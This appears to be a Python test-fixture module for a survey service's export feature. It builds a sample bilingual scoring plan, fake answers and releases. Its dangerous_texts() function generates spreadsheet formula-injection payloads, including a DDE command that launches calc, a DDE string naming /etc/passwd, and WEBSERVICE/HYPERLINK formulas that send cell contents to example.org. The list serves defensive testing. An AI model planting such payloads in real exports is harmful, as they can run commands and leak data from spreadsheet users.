"""Releases to be exported, one of each kind, and texts that a spreadsheet might run."""

from functools import cache
from itertools import product
from random import Random
from typing import Any

from selfcheck_service.core.releases import (
    NamedAnswers,
    Release,
    aggregate,
)
from selfcheck_service.core.rounds.terms import Mode
from selfcheck_service.core.scoring import Plan
from selfcheck_service.reports.releases import About
from tests.builders import (
    a_field,
    a_multiple_choice,
    a_number,
    a_pairwise,
    a_plan,
    a_rule,
    a_text,
    a_time,
    an_item,
    an_overall,
)
from tests.core.releases.sealing import SILENT, a_response, a_round_of

KINDS = ("cells", "quarters", "open", "institutional")
ABOUT = About("Wo stehen wir?", "Musterstadt")
NAMES = ("head", "staff", "club")
PAIRS = [["y", "x"], {"between": ["x", "z"], "no_answer": "declined", "reason": "Beides"}]


def in_both(german: str, english: str) -> dict[str, str]:
    return {"de": german, "en": english}


@cache
def plan_of_all() -> Plan:
    """The plan of what all releases here are of."""
    return a_plan_with()


def a_plan_with(*suggestions: Any, **overrides: Any) -> Plan:
    """Two scored fields on different scales, one of them with an urgency, and one of everything else.

    The suggestions are those of its first field.
    """
    ways = [an_item(f"way{at}", prompt=in_both(f"Weg {at}?", f"Way {at}?")) for at in range(4)]
    soon = an_item(
        "soon",
        scored=False,
        prompt=in_both("Wie bald?", "How soon?"),
        options=[{"value": at, "title": in_both(f"Option {at}", f"Option {at}")} for at in range(4)],
    )
    levels = {"key": "steps", "levels": [_level("low", "[0, 50)", "Anfang"), _level("high", "[50, 100]", "Weit")]}
    wide = a_rule(method="percent_of_maximum", scale=[0, 100])
    late = an_item("late", shown_when={"item": "way0", "points": {"at_least": 1}}, scored=False)
    units = {"title": "Team", "minimum": 1, "maximum": 3, "scoring": a_rule()}
    return a_plan(
        a_field("ways", *ways, soon, urgency="soon", title=in_both("Wege", "Ways"), suggestions=list(suggestions)),
        a_field("people", an_item("people0"), a_multiple_choice("several"), scoring=wide, levels="steps"),
        a_field(
            "rest",
            a_text("proud"),
            a_number("many", scored=False),
            a_time("clock", scored=False),
            late,
            an_item("rest0"),
            a_pairwise(),
        ),
        a_field("team", an_item("t"), units=units),
        languages=["de", "en"],
        title=in_both("Klein", "Small"),
        level_sets=[levels],
        perspectives=[
            {"key": key, "title": in_both(german, english)}
            for key, german, english in zip(
                NAMES, ("Leitung", "Team", "Verein"), ("Head", "Staff", "Club"), strict=True
            )
        ],
        overall=an_overall(title=in_both("Insgesamt", "Overall")),
        **overrides,
    )


def _level(key: str, numbers: str, german: str) -> dict[str, Any]:
    return {"key": key, "range": numbers, "title": in_both(german, key.title())}


def said(rng: Random, place: int) -> dict[str, Any]:
    """Answers that are alike from one test to the next."""
    items = ("way0", "way1", "way2", "way3", "people0")
    chosen: dict[str, Any] = {key: SILENT if rng.random() < 0.1 else rng.choice((1, 2, 3, 3, 4)) for key in items}
    chosen |= {"soon": rng.choice((2, 3)), "several": [0, 2], "proud": f"Bücherei {place}", "many": 2.5, "pairs": PAIRS}
    return chosen | {"clock": "10:30", "team": [{"t": 1}, {"t": 3}]}


@cache
def released_as(kind: str) -> Release:
    """A release of the rule or the mode that is named."""
    plan, rng = plan_of_all(), Random(5)
    sizes = {"cells": (12, 13, 4), "quarters": (2, 3, 1), "open": (1, 2, 0), "institutional": (1, 0, 0)}[kind]
    people = [name for name, size in zip(NAMES, sizes, strict=True) for _ in range(size)]
    sent = [said(rng, place) for place in range(len(people))]
    responses = [a_response(plan, each, name) for each, name in zip(sent, people, strict=True)]
    modes: dict[str, Mode] = {"open": "open", "institutional": "institutional"}
    round_ = a_round_of(plan, mode=modes.get(kind, "confidential"))
    named = [
        NamedAnswers(f"Person {place}", answers, each)
        for place, (answers, each) in enumerate(zip(responses, sent, strict=True))
    ]
    found = aggregate(round_, named)
    assert found is not None
    return found


def dangerous_texts() -> list[str]:
    """More than a thousand texts of which a spreadsheet might make a formula, after those of OWASP."""
    signs = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "\r=", "\n=", "\t", "\r")
    bodies = (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://example.org/?"&A1;"hier")',
        'WEBSERVICE("https://example.org/"&B2)',
        "SUM(1,1)*A1",
        "DDE('soffice';'/etc/passwd';'foo')",
        'IMPORTXML(CONCAT("","a"),"//b")',
        "2",
        "A1",
    )
    before = ("", " ", "\u00a0", '"', "'", "\ufeff", "\u200b", "a,", "a;", "a\n", "a\t")
    return [f"{start}{sign}{body}" for start, sign, body in product(before, signs, bodies)]
